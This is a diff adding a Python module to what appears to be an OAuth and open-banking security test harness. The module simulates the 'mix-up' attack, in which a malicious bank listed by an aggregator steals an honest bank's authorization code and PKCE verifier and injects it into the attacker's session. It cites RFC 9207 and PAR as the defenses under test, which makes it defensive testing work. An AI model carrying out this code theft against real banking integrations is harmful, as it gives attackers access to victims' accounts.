@@ -1,0 +1,48 @@
+"""mix-up: the honest bank's code, sent by FinLens to EvilBank's token endpoint (A1a).
+
+attacks.md §3 D; BCP §4.4. FinLens lists EvilBank; the lured victim clicks "Link
+EvilBank". EvilBank forwards the request to the honest AS with FinLens's client_id there
+(one redirect URI for all banks), the victim logs in and consents at his own bank, and
+FinLens, believing EvilBank answered, redeems the honest code (with its verifier, if
+any) at EvilBank. The attacker injects it into its own FinLens session.
+RFC 9207 §2.4 (tpp_checks_iss with iss_response_param): the response names the honest
+issuer, not EvilBank's; PAR (RFC 9126) makes a forwarded front-channel request useless.
+"""
+
+from __future__ import annotations
+
+from attacker import fixtures
+from attacker.context import AttackContext
+from attacker.inject import evil_received, inject_code
+from attacker.model import Attack
+
+
+def run(ctx: AttackContext) -> None:
+    fx = fixtures.ensure_running(ctx)
+    since = fx.mark()
+    fx.list_evilbank()
+    fx.evil_plan(mode="mixup")
+    ctx.step("attacker", "sets EvilBank to forward authorization requests to the honest AS "
+             "with FinLens's client_id")
+    try:
+        victim = ctx.victim("alice")
+        victim.link(fixtures.EVILBANK_ID)
+        redeemed = [r for r in evil_received(ctx, fx, since, "/token") if r.form().get("code")]
+    finally:
+        fx.evil_plan()
+    if not redeemed:
+        ctx.failed("FinLens sent no code to EvilBank")
+    form = redeemed[-1].form()
+    ctx.step("attacker", "EvilBank's token endpoint received the honest bank's code"
+             + (" and its PKCE verifier" if form.get("code_verifier") else ""))
+    inject_code(ctx, form["code"], victim.username, iss=ctx.config.issuer,
+                source="FinLens sent to EvilBank")
+
+
+ATTACK = Attack(
+    id="mix-up", attacker="A1a", legs=("evil_as",), victim="live",
+    premise="Runs EvilBank, listed in FinLens's directory; knows FinLens's client_id and "
+            "redirect URI at the honest AS (public); the lured victim links EvilBank.",
+    goal="the attacker's FinLens account shows the victim's accounts", run=run,
+    refs=("BCP §4.4", "RFC 9207 §2.4", "RFC 9126 §1", "F1P2 §8.3.3"),
+)
